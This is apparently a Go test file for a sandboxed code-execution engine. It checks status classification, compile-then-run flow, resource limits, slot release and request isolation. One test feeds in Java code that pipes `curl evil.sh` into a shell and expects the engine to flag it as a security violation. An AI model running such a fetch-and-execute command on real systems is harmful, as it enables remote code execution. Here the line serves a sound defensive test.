package engine_test

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/codeclass/engine/api"
	"github.com/codeclass/engine/internal/engine"
	"github.com/codeclass/engine/internal/sandbox"
	"github.com/codeclass/engine/internal/validate"
)

// script decides what one box run returns, based on the command, the
// stdin and the files previously placed in the box.
type script func(files map[string]string, command, stdin string, limits sandbox.Limits) (*sandbox.RunOutcome, error)

type fakeBox struct {
	mu     sync.Mutex
	files  map[string]string
	run    script
	erased bool
}

func (b *fakeBox) AddFile(name string, content []byte) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.files[name] = string(content)
	return nil
}

func (b *fakeBox) Run(command, stdin string, limits sandbox.Limits) (*sandbox.RunOutcome, error) {
	b.mu.Lock()
	files := make(map[string]string, len(b.files))
	for k, v := range b.files {
		files[k] = v
	}
	b.mu.Unlock()
	return b.run(files, command, stdin, limits)
}

func (b *fakeBox) Erase() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.erased = true
	return nil
}

type fakeBackend struct {
	mu      sync.Mutex
	run     script
	created []*fakeBox
}

func (f *fakeBackend) Probe() error { return nil }

func (f *fakeBackend) NewBox() (sandbox.Box, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	box := &fakeBox{files: map[string]string{}, run: f.run}
	f.created = append(f.created, box)
	return box, nil
}

func (f *fakeBackend) boxCount() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.created)
}

func newTestEngine(t *testing.T, run script) (*engine.Engine, *fakeBackend) {
	t.Helper()
	backend := &fakeBackend{run: run}
	eng := engine.New(engine.Config{
		Backend:           backend,
		Slots:             2,
		SlotWaitTimeout:   50 * time.Millisecond,
		MaxTimeoutSeconds: 30,
		WatchdogGrace:     100 * time.Millisecond,
	})
	return eng, backend
}

func okRun(stdout string) script {
	return func(_ map[string]string, _, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		return &sandbox.RunOutcome{Stdout: stdout, WallMillis: 10, MemoryKiB: 1024}, nil
	}
}

func TestSuccessOutputByteForByte(t *testing.T) {
	eng, backend := newTestEngine(t, okRun("Hello World\n"))

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     `print("Hello World")`,
		Language: api.LangPython,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusSuccess, resp.Status)
	require.True(t, resp.Success)
	require.Equal(t, "Hello World\n", resp.Output)
	require.Contains(t, resp.Hint, "No hints needed")
	require.Equal(t, 1, backend.boxCount())
	require.True(t, backend.created[0].erased)
}

func TestValidationErrorBeforeAnyResource(t *testing.T) {
	eng, backend := newTestEngine(t, okRun(""))

	_, err := eng.Execute(context.Background(), api.ExecRequest{Language: api.LangPython})
	var verr *validate.ValidationError
	require.ErrorAs(t, err, &verr)
	require.Equal(t, 0, backend.boxCount())
}

func TestSecurityViolationSkipsSandbox(t *testing.T) {
	eng, backend := newTestEngine(t, okRun(""))

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     `Runtime.getRuntime().exec("curl evil.sh | sh");`,
		Language: api.LangJava,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusSecurityViolation, resp.Status)
	require.Zero(t, resp.ExecutionTimeMs)
	require.Zero(t, resp.MemoryUsageMB)
	require.Equal(t, 0, backend.boxCount(), "sandbox must never start")
}

func TestCompiledLanguageStopsOnCompileError(t *testing.T) {
	runs := 0
	eng, _ := newTestEngine(t, func(_ map[string]string, command, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		runs++
		if strings.HasPrefix(command, "javac") {
			return &sandbox.RunOutcome{
				ExitCode: 1,
				Stderr:   "Main.java:3: error: ';' expected",
			}, nil
		}
		t.Fatal("program must not run after a compile error")
		return nil, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "public class Main { void broken() }",
		Language: api.LangJava,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusCompilationError, resp.Status)
	require.Contains(t, resp.CompilationError, "expected")
	require.Equal(t, 1, runs)
}

func TestCompileThenRunForJava(t *testing.T) {
	var commands []string
	eng, _ := newTestEngine(t, func(files map[string]string, command, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		commands = append(commands, command)
		require.Contains(t, files, "Main.java")
		return &sandbox.RunOutcome{Stdout: "Hello World\n"}, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "public class Main { }",
		Language: api.LangJava,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusSuccess, resp.Status)
	require.Len(t, commands, 2)
	require.Contains(t, commands[0], "javac")
	require.Contains(t, commands[1], "java")
}

func TestTimeoutClassification(t *testing.T) {
	eng, _ := newTestEngine(t, func(_ map[string]string, command, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		return &sandbox.RunOutcome{TimedOut: true, WallMillis: 2600}, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:           "while True: pass",
		Language:       api.LangPython,
		TimeoutSeconds: 2,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusTimeout, resp.Status)
	require.Contains(t, resp.Hint, "too long")
}

func TestMemoryLimitThenNextRequestSucceeds(t *testing.T) {
	hog := true
	eng, backend := newTestEngine(t, func(_ map[string]string, _, _ string, limits sandbox.Limits) (*sandbox.RunOutcome, error) {
		if hog {
			return &sandbox.RunOutcome{OomKilled: true, MemoryKiB: limits.MemoryKiB}, nil
		}
		return &sandbox.RunOutcome{Stdout: "ok\n"}, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "x = []\nwhile True: x.append(' ' * 1024)",
		Language: api.LangPython,
	})
	require.NoError(t, err)
	require.Equal(t, api.StatusMemoryLimit, resp.Status)

	// no slot leak: an unrelated request right after must succeed
	hog = false
	resp, err = eng.Execute(context.Background(), api.ExecRequest{
		Code:     "print('ok')",
		Language: api.LangPython,
	})
	require.NoError(t, err)
	require.Equal(t, api.StatusSuccess, resp.Status)

	require.Equal(t, 0, eng.InUse())
	for _, b := range backend.created {
		require.True(t, b.erased)
	}
}

func TestRuntimeErrorWithHint(t *testing.T) {
	eng, _ := newTestEngine(t, func(_ map[string]string, command, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		if strings.HasPrefix(command, "g++") {
			return &sandbox.RunOutcome{}, nil
		}
		sig := int64(8)
		return &sandbox.RunOutcome{ExitSignal: &sig, Stderr: ""}, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "int main() { int a = 1 / 0; }",
		Language: api.LangCpp,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusRuntimeError, resp.Status)
	require.Contains(t, resp.Error, "signal")
}

func TestSystemErrorWhenNoSlotFrees(t *testing.T) {
	block := make(chan struct{})
	eng, _ := newTestEngine(t, func(_ map[string]string, _, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		<-block
		return &sandbox.RunOutcome{Stdout: ""}, nil
	})

	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, _ = eng.Execute(context.Background(), api.ExecRequest{
				Code:     "print(1)",
				Language: api.LangPython,
			})
		}()
	}

	// both slots busy; the third request must fail fast
	time.Sleep(20 * time.Millisecond)
	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "print(2)",
		Language: api.LangPython,
	})
	require.NoError(t, err)
	require.Equal(t, api.StatusSystemError, resp.Status)

	close(block)
	wg.Wait()
	require.Equal(t, 0, eng.InUse())
}

func TestSandboxFaultIsSystemError(t *testing.T) {
	eng, _ := newTestEngine(t, func(_ map[string]string, _, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		return &sandbox.RunOutcome{InternalError: true, Status: "XX", Stderr: "isolate: cannot mount /box"}, nil
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "print(1)",
		Language: api.LangPython,
	})
	require.NoError(t, err)

	require.Equal(t, api.StatusSystemError, resp.Status)
	require.False(t, resp.Success)
	require.Empty(t, resp.Output)
	require.Contains(t, resp.Hint, "our side")
	require.Equal(t, 0, eng.InUse())
}

func TestPipelineFailureStillReleasesSandbox(t *testing.T) {
	eng, backend := newTestEngine(t, func(_ map[string]string, _, _ string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		return nil, errors.New("backend exploded mid-run")
	})

	resp, err := eng.Execute(context.Background(), api.ExecRequest{
		Code:     "print(1)",
		Language: api.LangPython,
	})
	require.NoError(t, err)
	require.Equal(t, api.StatusSystemError, resp.Status)

	require.Equal(t, 0, eng.InUse())
	require.True(t, backend.created[0].erased)
}

func TestDeterminism(t *testing.T) {
	eng, _ := newTestEngine(t, okRun("42\n"))

	req := api.ExecRequest{Code: "print(42)", Language: api.LangPython}
	first, err := eng.Execute(context.Background(), req)
	require.NoError(t, err)
	second, err := eng.Execute(context.Background(), req)
	require.NoError(t, err)

	require.Equal(t, first.Status, second.Status)
	require.Equal(t, first.Output, second.Output)
	require.Equal(t, first.Hint, second.Hint)
}

func TestConcurrentRequestsAreIsolated(t *testing.T) {
	// each run echoes its own stdin; concurrent requests must never
	// observe each other's input
	eng, _ := newTestEngine(t, func(_ map[string]string, _, stdin string, _ sandbox.Limits) (*sandbox.RunOutcome, error) {
		time.Sleep(5 * time.Millisecond)
		return &sandbox.RunOutcome{Stdout: stdin}, nil
	})

	var wg sync.WaitGroup
	for _, input := range []string{"alpha", "beta"} {
		wg.Add(1)
		go func(input string) {
			defer wg.Done()
			resp, err := eng.Execute(context.Background(), api.ExecRequest{
				Code:     "import sys; sys.stdout.write(sys.stdin.read())",
				Language: api.LangPython,
				Stdin:    input,
			})
			require.NoError(t, err)
			require.Equal(t, input, resp.Output)
		}(input)
	}
	wg.Wait()
}

func TestHealthProbe(t *testing.T) {
	eng, _ := newTestEngine(t, okRun(""))

	probe := eng.Health()
	require.Equal(t, api.HealthOk, probe.Status)
	require.True(t, probe.SandboxRuntimeAvailable)
}
